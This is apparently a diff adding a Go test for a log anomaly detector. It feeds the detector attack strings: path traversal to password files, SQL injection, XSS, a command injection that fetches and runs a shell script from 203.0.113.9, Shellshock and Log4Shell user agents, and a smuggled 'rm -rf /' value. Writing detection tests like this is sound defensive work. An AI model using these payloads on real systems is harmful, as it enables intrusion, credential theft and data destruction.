@@ -1,0 +1,26 @@
+package detector_test
+
+import (
+	"math/rand/v2"
+	"strings"
+	"testing"
+)
+
+// Strings of an attack in fields in which such characters never stood.
+func TestFieldAttack(t *testing.T) {
+	rng := rand.New(rand.NewPCG(9, 9))
+	web := watch(t, accessLog(14), 8000)
+	for _, path := range []string{
+		"/../../../../etc/passwd", "/products/%2e%2e%2f%2e%2e%2fetc/shadow", "/search?q=%27%20OR%201=1--", "/search?q=<script>alert(1)</script>",
+		"/cgi-bin/;wget http://203.0.113.9/x.sh|sh", "/products/\\x16\\x03\\x01\\x02", "/" + strings.Repeat("A", 3000), "/.env", "/wp-login.php",
+	} {
+		web.flags(access(rng, "GET", path, "404", ""), "path ")
+	}
+	for _, agent := range []string{"() { :; }; /bin/bash -c 'cat /etc/passwd'", "${jndi:ldap://203.0.113.9:1389/a}", "sqlmap/1.8#stable (https://sqlmap.org) ' UNION SELECT NULL--"} {
+		web.flags(access(rng, "GET", "/", "200", agent), "agent ")
+	}
+	shop := watch(t, shopLog(16), 8000)
+	for _, user := range []string{`"admin' OR '1'='1"`, `"$(rm -rf /)"`, `"../../root"`} {
+		shop.flags(changed("user", user), "user ")
+	}
+}
